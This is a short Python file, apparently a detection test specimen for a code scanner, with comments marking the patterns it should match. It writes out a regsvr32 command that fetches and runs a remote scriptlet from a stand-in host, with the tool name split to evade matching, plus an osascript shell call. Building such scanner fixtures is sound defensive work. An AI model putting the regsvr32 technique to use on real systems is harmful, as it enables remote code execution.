raise SystemExit("specimen: not to be run")
from subprocess import call as speak, Popen as begin

tool = "regsvr" + "32"  # match: assembled-name
speak([tool, "/s", "/n", "/u", "/i:https://example.com/specimen.sct", "scrobj.dll"])  # match: process-at-import  # match: shell-download
begin(["osascript", "-e", 'do shell script "echo specimen"'])  # match: process-at-import  # match: system-binary-abuse
